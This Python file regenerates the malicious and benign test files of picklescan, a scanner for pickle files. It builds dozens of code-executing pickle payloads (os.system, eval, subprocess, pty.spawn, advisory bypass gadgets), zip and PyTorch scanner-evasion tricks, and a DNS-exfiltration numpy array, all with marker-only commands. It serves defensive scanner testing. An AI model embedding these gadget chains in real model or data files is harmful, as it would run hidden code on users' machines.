"""Cases of picklescan's test suite (tests/init_data_files.py and tests/test_scanner.py), regenerated.

Payload structure follows each picklescan data file; arguments are replaced by a command that only
touches the marker. Files picklescan commits as binaries (zip flag-bit variants, the password-
protected zip, PyTorch models) are rebuilt from their description.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path
from typing import Any

b: Any = None  # the helpers of _build.py, set by corpus._load() once this module is loaded

# (file, module, name, args-kind) for picklescan's reduce_* and MaliciousN classes; kinds: C=command,
# P=python code, X=explicit args
REDUCES: list[tuple[str, str, str, Any]] = [
    ("malicious3.pkl", "http.client", "HTTPSConnection", ("github.com",)),
    ("malicious4.pickle", "requests.api", "get", ("https://github.com",)),
    ("malicious5.pickle", "aiohttp.client", "ClientSession", ()),
    ("malicious7.pkl", "socket", "create_connection", (("github.com", 80),)),
    ("malicious8.pkl", "subprocess", "run", "C"),
    ("malicious9.pkl", "sys", "exit", (0,)),
    ("malicious14.pkl", "runpy", "_run_code", "P"),
    ("malicious16.pkl", "pip", "main", (["install", "some_malicious_package", "--no-input"],)),
    ("malicious17.pkl", "torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", "C"])),
    ("malicious18.pkl", "pydoc", "pipepager", ("", "C")),
    ("malicious20.pkl", "venv", "create", ("venv", False, False, True, False, "C")),
    ("malicious21.pkl", "timeit", "timeit", ("", "P")),
    ("malicious22.pkl", "numpy.testing._private.utils", "runstring", ("P", {})),
    ("GHSA-4r9r-ch6f-vxmx.pkl", "torch.utils.bottleneck.__main__", "run_cprofile", ("P", {})),
    ("GHSA-86cj-95qr-2p4f.pkl", "torch._dynamo.guards", "GuardBuilder.get", ({}, "P")),
    ("GHSA-f4x7-rfwp-v3xw.pkl", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
     ({}, "P", [])),
    ("GHSA-f745-w6jp-hpxx.pkl", "torch.utils.collect_env", "run", ("C",)),
    ("GHSA-h3qp-7fh3-f8h4.pkl", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"")),
    ("GHSA-vr7h-p6mm-wpmh.pkl", "torch.jit.unsupported_tensor_ops", "execWrapper", ("P", {}, {})),
    ("GHSA-vv6j-3g6g-2pvj.pkl", "torch.utils._config_module", "ConfigModule.load_config", ({}, b"")),
    ("GHSA-5qwp-399c-mjwf.pkl", "trace", "Trace.run", ({}, "P")),
    ("GHSA-g344-hcph-8vgg.pkl", "trace", "Trace.runctx", ({}, "P", {}, {})),
    ("GHSA-x696-vm39-cp64.pkl", "profile", "Profile.run", ({}, "P")),
    ("GHSA-6vqj-c2q5-j97w.pkl", "profile", "Profile.runctx", ({}, "P", {}, {})),
    ("GHSA-f54q-57x4-jg88.pkl", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    ("GHSA-3vg9-h568-4w9m.pkl", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, "P")),
    ("GHSA-6w4w-5w54-rjvr.pkl", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, "P")),
    ("GHSA-7cq8-mj8x-j263.pkl", "idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, "P", 1)),
    ("GHSA-cj3c-v495-4xqh.pkl", "code", "InteractiveInterpreter.runcode", ({}, "P")),
    ("GHSA-8r4j-24qv-fmq9.pkl", "idlelib.calltip", "Calltip.fetch_tip", ({}, "P")),
    ("GHSA-9xph-j2h6-g47v.pkl", "idlelib.calltip", "get_entity", ("P",)),
    ("GHSA-4whj-rm5r-c2v8.pkl", "torch.utils.bottleneck.__main__", "run_autograd_prof", ("P", {})),
    ("GHSA-xp4f-hrf8-rxw7.pkl", "ensurepip", "_run_pip", ("P",)),
    ("GHSA-p9w7-82w4-7q8m.pkl", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, "P")),
    ("GHSA-vvpj-8cmc-gx39.pkl", "pkgutil", "resolve_name", ("os:system",)),
    ("GHSA-m869-42cg-3xwr.pkl", "idlelib.run", "Executive.runcode", ({}, "P")),
    ("GHSA-j343-8v2j-ff7w.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, "P")),
    ("GHSA-3gf5-cxq9-w223.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, "P")),
    ("GHSA-fqq6-7vqf-w3fg.pkl", "doctest", "debug_script", ("P", True)),
    ("GHSA-9w88-8rmg-7g2p.pkl", "cProfile", "runctx", ("P", None, None)),
    ("GHSA-49gj-c84q-6qm9.pkl", "cProfile", "run", ("P",)),
    ("GHSA-7wx9-6375-f5wh.pkl", "profile", "run", ("P",)),
    ("GHSA-q77w-mwjj-7mqx.pkl", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "C", True, None, None, None, 0)),
    ("GHSA-jgw4-cr84-mqxg.bin", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "C", True, None, None, None, 0)),
    ("GHSA-m273-6v24-x4m4.pkl", "distutils.file_util", "write_file", ("pwned_config.env", ["malicious"])),
    ("GHSA-4675-36f9-wf6r.pkl", "ctypes", "CDLL", (None,)),
    ("GHSA-vqmv-47xg-9wpr.pkl", "pty", "spawn", (["/bin/sh", "-c", "C"],)),
    ("GHSA-r8g5-cgf2-4m4m.pkl", "numpy.f2py.crackfortran", "getlincoef", ("P", [])),
    ("GHSA-g38g-8gr9-h9xp-uuid.pkl", "uuid", "_get_command_stdout", ("C",)),
    ("GHSA-g38g-8gr9-h9xp-osx-support.pkl", "_osx_support", "_read_output", ("C",)),
    ("GHSA-g38g-8gr9-h9xp-aix-support.pkl", "_aix_support", "_read_cmd_output", ("C",)),
    ("GHSA-g38g-8gr9-h9xp-imaplib.pkl", "imaplib", "IMAP4_stream", ("C",)),
    ("GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl", "_pyrepl.pager", "pipe_pager", ("text", "C")),
    ("GHSA-g38g-8gr9-h9xp-test.pkl", "test.support.script_helper", "assert_python_ok", ("-c pass",)),
    ("io_FileIO.pkl", "_io", "FileIO", ("/etc/hosts", "r")),
    ("urllib_request_urlopen.pkl", "urllib.request", "urlopen", ("https://example.invalid",)),
    ("logging_FileHandler.pkl", "logging", "FileHandler", ("evil.log",)),
]


def _fill(w: Any, values: Any) -> tuple[Any, ...]:
    if values == "C":
        return (w.cmd,)
    if values == "P":
        return (w.py,)

    def sub(v: Any) -> Any:
        if v == "C":
            return w.cmd
        if v == "P":
            return w.py
        if isinstance(v, list):
            return [sub(x) for x in v]
        return v

    return tuple(sub(v) for v in values)


def _zip(data: bytes, member: str = "data.pkl") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(member, data)
    return buf.getvalue()


def _set_flags(blob: bytes, bit: int) -> bytes:
    b = bytearray(blob)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = b.find(sig)
        while i >= 0:
            struct.pack_into("<H", b, i + off, struct.unpack_from("<H", b, i + off)[0] | bit)
            i = b.find(sig, i + 4)
    return bytes(b)


def cases(d: Path, marker: Path) -> list[Any]:
    w = b.Writer(d, "picklescan", marker)
    eval_p = {p: b.call("builtins", "eval", (w.py,), p) for p in (0, 3, 4)}
    system_p = {p: b.call("posix", "system", (w.cmd,), p) for p in (0, 3, 4)}
    for p in (0, 3, 4):
        w.add(f"benign0_v{p}.pkl", pickle.dumps(["a", "b", "c"], protocol=p), "benign")
        w.add(f"malicious1_v{p}.pkl", eval_p[p], "malicious")
        w.add(f"malicious2_v{p}.pkl", system_p[p], "malicious")
    for name, module, fn, values in REDUCES:
        proto = 0 if name in ("malicious3.pkl", "malicious16.pkl") else 4
        w.add(name, b.call(module, fn, _fill(w, values), proto), "malicious")
    w.add("malicious0.pkl",  # "sour pickles": globals() -> compile -> eval, via getattr(dict, 'get') and apply
          b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'" + w.py.replace("'", '"').encode()
          + b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__"
          b"\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n.", "malicious")
    w.add("malicious6.pkl", pickle.dumps(["a", "b", "c"]) + b.call("requests.api", "get", ("https://github.com",)),
          "malicious")
    w.add("malicious10.pkl", b"(S'" + w.py.replace("'", '"').encode() + b"'\ni__builtin__\nexec\n.", "malicious")
    ctf = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + w.cmd.encode()
           + b"\ntR.")
    w.add("malicious11.pkl", ctf, "malicious")
    w.add("malicious-invalid-bytes.pkl", ctf + b"\n\n\t\t", "malicious")
    w.add("malicious12.pkl", b"\x80\x04" + b.u("operator") + b"\x94" + b.u("attrgetter") + b"\x94\x93\x94" + b.u("system")
          + b"\x94\x85\x94R\x94" + b.u("builtins") + b"\x94" + b.u("__import__") + b"\x94\x93\x94" + b.u("os")
          + b"\x94\x85\x94R\x94\x85\x94R\x94" + b.u(w.cmd) + b"\x94\x85\x94R\x94.", "malicious")
    w.add("malicious13a.pkl", b.call("_pickle", "loads", (b"I12345\n.",), 0), "malicious")
    w.add("malicious13b.pkl", b.call("_pickle", "loads", (b"I12345\n.",), 4), "malicious")
    for suffix, proto in (("a", 2), ("b", 4)):  # bdb.Bdb.run(Bdb(), code)
        bd = b.glob("bdb", "Bdb", proto) + b")\x81}b"
        w.add(f"malicious15{suffix}.pkl", b.header(proto) + b.glob("bdb", "Bdb.run", proto) + b"(" + bd + b"V"
              + w.py.encode() + b"\ntR.", "malicious")
    # functools.partial(torch.load, path, weights_only=False)() — a call of a computed callable
    w.add("malicious19.pkl", b"\x80\x04" + b.glob("functools", "partial") + b.glob("torch", "load") + b"\x85R"
          + b"(" + b.glob("torch", "load") + b.args(("some_other_model.bin",), 4) + b"}" + b.u("weights_only")
          + b"\x89sNtb)R.", "malicious")
    w.add("malicious23.pkl", b"S'os'\nS'system'\n\x93S'" + w.cmd.encode() + b"'\n\x85R.", "malicious")
    w.add("broken_model.pkl", b"cbuiltins\nexec\n(X>\n" + w.py.encode() + b"tRX.", "malicious")
    w.add("keyerror-exploit.pkl", b"\x80\x04cos\nsystem\nV" + w.cmd.encode() + b"\n\x85R0\x8c\x02os\x94h\x03h\x00"
          b"\x93K\x42.", "malicious")
    w.add("type-confusion-exploit.pkl", b"\x80\x04cos\nsystem\nV" + w.cmd.encode() + b"\n\x85R0J\x2a\x00\x00\x00"
          b"\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.", "malicious")
    w.add("GHSA-955r-x9j8-7rhh.pkl", b"\x80\x04" + b.glob("_operator", "methodcaller") + b.args(("system", w.cmd), 4)
          + b"R" + b.glob("builtins", "__import__") + b.args(("os",), 4) + b"R\x85R.", "malicious")
    w.add("GHSA-46h3-79wf-xr6c.pkl", b"\x80\x04" + b.glob("_operator", "attrgetter") + b.args(("system",), 4)
          + b"R" + b.glob("builtins", "__import__") + b.args(("os",), 4) + b"R\x85R" + b.args((w.cmd,), 4) + b"R.",
          "malicious")
    w.add("GHSA-84r2-jw7c-4r5q.pkl", b"\x80\x04" + b.glob("operator", "methodcaller") + b.args(("system", w.cmd), 4)
          + b"R" + b.glob("pydoc", "locate") + b.args(("os",), 4) + b"R\x85R.", "malicious")
    _code_and_cloudpickle(w)
    _containers(w, eval_p[4], system_p[4])
    _numpy_and_torch(w)
    return w.cases


def _code_and_cloudpickle(w: Any) -> None:
    co = compile(f"import os; os.system({w.cmd!r})", "<dynamic_code>", "exec")
    fields = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize,
              co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames, co.co_filename, co.co_name,
              co.co_qualname, co.co_firstlineno, co.co_linetable, co.co_exceptiontable, co.co_freevars,
              co.co_cellvars)
    w.add("types_CodeType.pkl", b.call("types", "CodeType", fields), "malicious")
    try:
        import cloudpickle
    except ImportError:  # pragma: no cover - cloudpickle comes with ray (federated extra)
        return
    # its own small builtins: under coverage the real builtins hold objects cloudpickle cannot pickle
    ns: dict[str, Any] = {"__builtins__": {"getattr": getattr}}
    exec("def evil(payload):\n    getattr(__builtins__, 'eval')(payload)\n", ns)  # a function object, never called
    evil = ns["evil"]

    class Evil:
        def __reduce__(self) -> Any:
            return evil, (w.py,)

    w.add("cloudpickle_codeinjection.pkl", cloudpickle.dumps(Evil()), "malicious")


def _containers(w: Any, eval_pickle: bytes, system_pickle: bytes) -> None:
    plain = _zip(eval_pickle)
    w.add("malicious1.zip", plain, "malicious")
    w.add("malicious1_wrong_ext.zip", _zip(eval_pickle, "data.txt"), "malicious")
    w.add("malicious1_central_directory.zip", plain.replace(b"data.pkl", b"datap.kl", 1), "malicious")
    for bit in (0x1, 0x20, 0x40):
        w.add(f"malicious1_{bit:#x}.zip", _set_flags(plain, bit), "malicious")
    i = plain.find(b"touch")
    w.add("malicious1_crc.zip", plain[:i] + b"TOUCH" + plain[i + 5:], "malicious")
    import py7zr

    src = w.path("_payload.pkl")
    src.write_bytes(eval_pickle)
    with py7zr.SevenZipFile(w.path("malicious1.7z"), "w") as z:
        z.write(src, "data.pkl")
    src.unlink()
    w.add("malicious1.7z", None, "malicious")
    # legacy torch layout whose magic number comes from eval(), then a payload pickle
    magic = b.call("builtins", "eval", ("0x1950A86A20F9469CFC6C",), 2)
    w.add("pytorch_magic_bypass.pt", magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickle.dumps([], 2)
          + system_pickle + pickle.dumps(None, 2), "malicious")
    w.add("bad_pytorch.pt", b"\211PNG\r\n\032\n", "unreadable", "bad_pytorch.pt (a PNG named .pt)")
    w.add("not_a_pickle.bin", b"cmod\n\xf8\n", "unreadable")
    locked = _set_flags(_zip(bytes(range(256)) * 4, "secret.pkl"), 0x1)  # really unreadable bytes
    w.add("benign_password_protected.zip", locked, "unreadable")


def _numpy_and_torch(w: Any) -> None:
    import numpy as np
    import torch

    x = np.empty((2, 2), dtype=object)
    x[:] = [(1, 2), (3, 4)]
    np.save(w.path("object_array.npy"), x)
    w.add("object_array.npy", None, "benign")
    np.save(w.path("int_array.npy"), np.array([[1, 2], [3, 4]]))
    w.add("int_array.npy", None, "benign")
    np.savez(w.path("object_arrays.npz"), a=np.array([0, 1, 2], dtype=object), b=np.array([3, 4, 5], dtype=object))
    np.savez(w.path("int_arrays.npz"), a=np.array([0, 1, 2]), b=np.array([3, 4, 5]))
    np.savez_compressed(w.path("object_arrays_compressed.npz"), a=np.array([0, 1, 2], dtype=object))
    np.savez_compressed(w.path("int_arrays_compressed.npz"), a=np.array([0, 1, 2]))
    for n in ("object_arrays.npz", "int_arrays.npz", "object_arrays_compressed.npz", "int_arrays_compressed.npz"):
        w.add(n, None, "benign")
    import ssl

    class DNSLog:  # an object array whose element reduces to ssl.get_server_certificate (DNS exfiltration)
        def __reduce__(self) -> Any:
            return ssl.get_server_certificate, (("x.invalid", 443),)

    np.save(w.path("dns_exfiltration.npy"), np.array([DNSLog()], dtype=object), allow_pickle=True)
    w.add("dns_exfiltration.npy", None, "malicious")
    sd = {"linear.weight": torch.zeros(2, 2), "linear.bias": torch.zeros(2)}
    torch.save(sd, w.path("pytorch_model.bin"), _use_new_zipfile_serialization=False)
    torch.save(sd, w.path("new_pytorch_model.bin"))
    w.add("pytorch_model.bin", None, "benign")
    w.add("new_pytorch_model.bin", None, "benign")
